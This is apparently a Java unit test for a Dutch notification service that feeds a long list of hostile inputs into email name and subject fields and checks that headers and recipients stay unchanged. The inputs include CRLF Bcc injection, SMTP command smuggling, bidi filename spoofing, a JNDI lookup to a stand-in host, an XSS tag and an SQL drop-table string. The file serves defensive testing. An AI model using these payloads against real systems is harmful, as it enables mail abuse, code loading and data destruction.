package nl.kring.notify;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Properties;
import java.util.TreeSet;
import java.util.stream.Stream;
import nl.kring.identity.Recipient;
import nl.kring.platform.Ids;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.mail.javamail.JavaMailSenderImpl;

/** Whoever wrote a name or a subject: it stays one header, and says what was written. */
class HeadersTests {
    private static final TreeSet<String> HEADERS = new TreeSet<>(List.of(
            "Auto-Submitted",
            "Content-Type",
            "Date",
            "From",
            "MIME-Version",
            "Message-ID",
            "Reply-To",
            "Subject",
            "To",
            "X-Auto-Response-Suppress"));

    static Stream<String> hostile() {
        return Stream.of(
                // a line end, in every form that some program takes for one
                "Anna\r\nBcc: boef@elders.example",
                "Anna\nBcc: boef@elders.example",
                "Anna\rBcc: boef@elders.example",
                "Anna\n\rBcc: boef@elders.example",
                "Anna\r\n Bcc: boef@elders.example",
                "Anna\r\n\tBcc: boef@elders.example",
                "Anna\n\nDit is de tekst",
                "Anna\r\n\r\nDit is de tekst",
                "Anna\r\n.\r\nQUIT",
                "Anna\r\n.\r\nMAIL FROM:<boef@elders.example>",
                "Anna\u2028Bcc: boef@elders.example",
                "Anna\u2029Bcc: boef@elders.example",
                "Anna\u0085Bcc: boef@elders.example",
                "Anna\u000bBcc: boef@elders.example",
                "Anna\u000cBcc: boef@elders.example",
                "Anna%0d%0aBcc: boef@elders.example",
                "Anna%0ABcc: boef@elders.example",
                "Anna\\r\\nBcc: boef@elders.example",
                "Anna&#13;&#10;Bcc: boef@elders.example",
                "Anna\u560d\u560aBcc: boef@elders.example", // whose last bytes are a line end
                "\r\nBcc: boef@elders.example",
                "Bcc: boef@elders.example\r\n",
                "\nAnna",
                "Anna\n",
                "a\r\nTo: boef@elders.example\r\nCc: boef@elders.example\r\nReply-To: boef@elders.example",
                "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
                "a\r\nSubject: iets anders",
                "a\r\nFrom: bank@bank.example",
                // words that decode into something else
                "=?utf-8?Q?Anna=0D=0ABcc:_boef@elders.example?=",
                "=?utf-8?B?QW5uYQ0KQmNjOiBib2VmQGVsZGVycy5leGFtcGxl?=",
                "=?us-ascii?Q?=0D=0A=0D=0Atekst?=",
                "=?utf-8?Q?Anna?= =?utf-8?Q?=0ABcc:_x?=",
                "=?utf-8?Q?",
                "=?=?=?=",
                "=?klingon?Q?Anna?=",
                "=0D=0ABcc: x",
                // what turns or hides
                "Anna\u202Egpj.exe",
                "\u202Eannb\u202C",
                "Anna\u2066\u2067x\u2069",
                "Anna\u200F\u200E",
                "A\u200Bn\u200Bn\u200Ba",
                "A\u00ADnna",
                "\uFEFFAnna",
                "Anna\u0000Bcc: x",
                "\u0000",
                "\u0007\u0008\u001b[31mAnna",
                "\u007f",
                "\ud800Anna",
                "Anna\udc00",
                // what an address is made of
                "Anna <boef@elders.example>",
                "\"Anna\" <boef@elders.example>,",
                "anna@dorp.example, boef@elders.example",
                "<boef@elders.example>",
                "Anna; boef@elders.example",
                "Groep: a@b.example;",
                "Anna (boef@elders.example)",
                "Anna\\",
                "\"",
                "\\\"",
                "\"\"\"\"",
                "@",
                ",",
                ":;",
                "()<>[]:;@\\,.\"",
                // other letters, and much of them
                "Anna Skûtsje",
                "Ånñå Müller-Łukasz",
                "آنا",
                "אנה",
                "안나",
                "安娜",
                "Ann\u0061\u0301\u0301\u0301\u0301\u0301\u0301",
                "👩‍👩‍👧‍👦",
                "🇳🇱🇳🇱",
                "x".repeat(998),
                "x".repeat(5_000),
                "é".repeat(3_000),
                "👩‍👩‍👧‍👦".repeat(200),
                "x ".repeat(3_000),
                "\r\n".repeat(500) + "x",
                "{0}",
                "{0} {1} '{2}'",
                "${jndi:ldap://elders.example/a}",
                "<script>alert(1)</script>",
                "'; drop table common.delivery; --");
    }

    private static MimeMessage sent(Letter letter) throws Exception {
        var bytes = new ByteArrayOutputStream();
        var message = new MailTransport(new JavaMailSenderImpl(), new BackTo(), "kring@kring.example").message(letter);
        message.setSentDate(new java.util.Date());
        message.saveChanges();
        message.writeTo(bytes);
        var raw = bytes.toString(StandardCharsets.ISO_8859_1);
        var head = raw.substring(0, raw.indexOf("\r\n\r\n"));
        assertThat(head.lines()).as("no line longer than a server takes").allSatisfy(line -> assertThat(line.length())
                .isLessThan(999));
        assertThat(head.chars())
                .as("nothing but what servers know")
                .allMatch(sign -> sign == '\r' || sign == '\n' || sign == '\t' || sign >= 32 && sign < 127);
        return new MimeMessage(Session.getInstance(new Properties()), new ByteArrayInputStream(bytes.toByteArray()));
    }

    private static final class BackTo extends ReturnAddresses {
        BackTo() {
            super(null, null);
        }

        @Override
        Optional<String> of(Letter letter) {
            return Optional.of("antwoord+" + "a".repeat(32) + "@kring.example");
        }
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void a_name_or_a_subject_is_one_header_and_no_more(String text) throws Exception {
        var letter = new Letter(
                Ids.next(),
                text,
                text,
                "anna@dorp.example",
                false,
                text,
                "tekst",
                "<p>tekst</p>",
                Optional.of("antwoord+abc@kring.example"));
        var mail = sent(letter);
        var names = Collections.list(mail.getAllHeaders()).stream()
                .map(header -> header.getName())
                .toList();
        assertThat(names).as("each once, and no other").doesNotHaveDuplicates();
        assertThat(new TreeSet<>(names)).isEqualTo(HEADERS);
        assertThat(mail.getAllRecipients()).hasSize(1);
        assertThat(((InternetAddress) mail.getAllRecipients()[0]).getAddress()).isEqualTo("anna@dorp.example");
        assertThat(((InternetAddress) mail.getReplyTo()[0]).getAddress()).isEqualTo("antwoord+abc@kring.example");
        assertThat(((InternetAddress) mail.getFrom()[0]).getAddress()).isEqualTo("kring@kring.example");
        for (var read : new String[] {
            Optional.ofNullable(mail.getSubject()).orElse(""),
            Optional.ofNullable(((InternetAddress) mail.getAllRecipients()[0]).getPersonal())
                    .orElse("")
        }) {
            assertThat(read).doesNotContain("\r", "\n", "\u0000", "\u202e", "\u2028", "\u2029");
        }
    }

    /** Through the texts, where a name stands in a subject. */
    @ParameterizedTest
    @MethodSource("hostile")
    void also_where_it_fills_in_a_text(String text) throws Exception {
        var letter = new Letters("https://kring.example")
                .write(
                        Ids.next(),
                        new Recipient(text, "anna@dorp.example", Locale.of("nl"), false),
                        "taskOff",
                        new Object[] {text, text},
                        "/");
        var mail = sent(letter);
        assertThat(mail.getAllRecipients()).hasSize(1);
        assertThat(mail.getHeader("Bcc")).isNull();
        assertThat(mail.getSubject()).startsWith("Bericht uit de kring van").doesNotContain("\r", "\n");
        assertThat(letter.html()).doesNotContain("<script>");
    }
}
